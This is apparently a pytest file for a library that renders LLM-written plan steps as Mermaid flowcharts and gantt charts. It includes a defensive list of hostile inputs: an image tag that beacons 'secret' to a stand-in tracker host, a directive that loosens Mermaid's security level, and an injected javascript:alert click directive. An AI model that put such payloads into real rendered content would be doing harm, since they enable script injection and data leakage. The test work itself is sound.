"""Mermaid output: step texts written by an LLM render as text, never as markup or directives;
the gantt chart's axis reads right for runs of any length and each status has its own look."""

import re
from datetime import UTC, datetime, timedelta

import pytest

from planning.mermaid import escape_text, flowchart, gantt, run_flowchart
from planning.plan import Plan
from planning.records import PlanVersion, RunRecord, RunStatus, StepRecord, StepStatus

HOSTILE = [
    '<img src="https://tracker.example/p.png?d=secret">',
    "line one<br>line two<br/>",
    '%%{init: {"securityLevel": "loose"}}%%',
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; #quot; #35;",
    'say "hi" `md` [a] {b} |c| \\ back',
    'end"]\n    click s1 href "javascript:alert(1)"\n    s9["',
]
NAMED = {"quot": '"', "amp": "&", "lt": "<", "gt": ">"}


def mermaid_shows(label: str) -> str:
    """What Mermaid displays for a label: its entity codes decoded (numbers are base 10)."""

    def decode(match: re.Match[str]) -> str:
        code = match.group(1)
        return chr(int(code)) if code.isdigit() else NAMED[code]

    return re.sub(r"#(\w+);", decode, label)


def node_labels(chart: str) -> dict[str, str]:
    return dict(re.findall(r'^    (s\d+)\["(.*)"\]$', chart, flags=re.MULTILINE))


@pytest.mark.parametrize("task", HOSTILE)
def test_a_hostile_task_renders_as_its_own_text(task: str) -> None:
    plan = Plan.model_validate({"steps": [{"id": 1, "agent": "code", "task": task}]})

    chart = flowchart(plan, {1: StepStatus.SUCCEEDED})

    lines = chart.splitlines()
    assert lines[0] == "flowchart TD" and len(lines) == 4  # the node and its class: nothing injected
    label = node_labels(chart)["s1"]
    text, ours = label.split("<br/>")  # the one line break is ours
    assert ours == "wave 1 · succeeded"
    for markup in ("<", ">", '"', "&", "%", "`", "\n"):
        assert markup not in text
    shown = " ".join(task.split())
    shown = shown if len(shown) <= 40 else shown[:39] + "…"
    assert mermaid_shows(text) == f"1. code: {shown}"


def test_html_entities_in_a_task_stay_entities_on_screen() -> None:
    text = escape_text("&lt;img&gt; and &#60;")

    assert text == "#amp;lt;img#amp;gt; and #amp;#35;60;"  # Mermaid emits `&amp;lt;`: shown as `&lt;`
    assert mermaid_shows(text) == "&lt;img&gt; and &#60;"


def test_plain_task_text_is_left_readable() -> None:
    assert escape_text("Compute 10 times 5, then add 2.") == "Compute 10 times 5, then add 2."


# -- gantt ---------------------------------------------------------------------------------------

START = datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC)


def record(*spans: tuple[StepStatus, float, float | None]) -> RunRecord:
    """A run whose step i+1 ran from spans[i][1] to spans[i][2] seconds after START."""
    steps = [
        StepRecord(
            id=number,
            agent="math",
            status=status,
            started_at=START + timedelta(seconds=begin),
            finished_at=START + timedelta(seconds=end) if end is not None else None,
        )
        for number, (status, begin, end) in enumerate(spans, start=1)
    ]
    plan = Plan.model_validate(
        {"steps": [{"id": s.id, "agent": "math", "tool": "add", "args": {"a": 1, "b": 2}} for s in steps]}
    )
    return RunRecord(
        id="r1", status=RunStatus.PARTIAL, request=None, engine="local", created_at=START,
        step_count=len(steps), plan=plan, steps=steps,
    )  # fmt: skip


def test_a_run_under_a_minute_is_drawn_from_zero_in_seconds_and_milliseconds() -> None:
    chart = gantt(record((StepStatus.SUCCEEDED, 0, 1.5), (StepStatus.FAILED, 1.5, 59.25)))

    assert chart.splitlines() == [
        "gantt",
        "    title Run r1",
        "    dateFormat x",
        "    axisFormat %S.%L s",
        "    section step 1",
        "    math (succeeded) :s1, 0, 1500",
        "    section step 2",
        "    math (failed) :crit, s2, 1500, 59250",
    ]


def test_a_run_over_a_minute_is_drawn_at_its_real_times_on_a_clock_axis_that_never_wraps() -> None:
    chart = gantt(record((StepStatus.SUCCEEDED, 0, 70), (StepStatus.SUCCEEDED, 70, 3 * 3600)))

    origin = int(START.timestamp() * 1000)
    assert "    axisFormat %H:%M:%S" in chart.splitlines()
    assert f"    math (succeeded) :s1, {origin}, {origin + 70_000}" in chart.splitlines()
    assert f"    math (succeeded) :s2, {origin + 70_000}, {origin + 3 * 3600 * 1000}" in chart.splitlines()


def test_each_status_has_its_own_look_and_cancelled_is_not_drawn_like_succeeded() -> None:
    chart = gantt(
        record(
            (StepStatus.SUCCEEDED, 0, 1),
            (StepStatus.FAILED, 0, 1),
            (StepStatus.CANCELLED, 0, 1),
            (StepStatus.RUNNING, 0, None),
        )
    )

    bars = [line.split(":", 1)[1].split("s", 1)[0] for line in chart.splitlines() if " :" in line]
    assert bars == ["", "crit, ", "done, ", "active, "]


def test_a_revised_run_draws_its_replaced_steps_dashed_beside_the_current_plan() -> None:
    first = Plan.model_validate(
        {
            "steps": [
                {"id": 1, "agent": "math", "tool": "add", "args": {"a": 1, "b": 2}},
                {"id": 2, "agent": "math", "tool": "fail", "args": {"message": "no"}, "depends_on": [1]},
            ]
        }
    )
    second = Plan.model_validate(
        {
            "steps": [
                {"id": 1, "agent": "math", "tool": "add", "args": {"a": 1, "b": 2}},
                {"id": 3, "agent": "math", "tool": "add", "args": {"a": "$1", "b": 1}},
            ]
        }
    )
    now = datetime.now(UTC)
    record = RunRecord(
        id="r1",
        status=RunStatus.SUCCEEDED,
        request="add",
        engine="local",
        created_at=now,
        step_count=3,
        plan=second,
        versions=[
            PlanVersion(version=1, kind="planned", plan=first, reason="planned", created_at=now),
            PlanVersion(version=2, kind="replanned", plan=second, reason="step 2 failed", replaced=[2], created_at=now),
        ],
        steps=[
            StepRecord(id=1, agent="math", status=StepStatus.SUCCEEDED),
            StepRecord(id=2, agent="math", status=StepStatus.REPLACED),
            StepRecord(id=3, agent="math", status=StepStatus.SUCCEEDED),
        ],
    )

    assert run_flowchart(record).splitlines() == [
        "flowchart TD",
        '    s1["1. math: add()<br/>wave 1 · succeeded"]',
        '    s3["3. math: add()<br/>wave 2 · succeeded"]',
        '    s2["2. math: fail()<br/>replaced"]',
        "    s1 --> s3",
        "    s1 -.-> s2",
        "    classDef succeeded fill:#d4edda,stroke:#28a745",
        "    class s1,s3 succeeded",
        "    classDef replaced fill:#ffffff,stroke:#999999,stroke-dasharray:2,color:#999999",
        "    class s2 replaced",
    ]
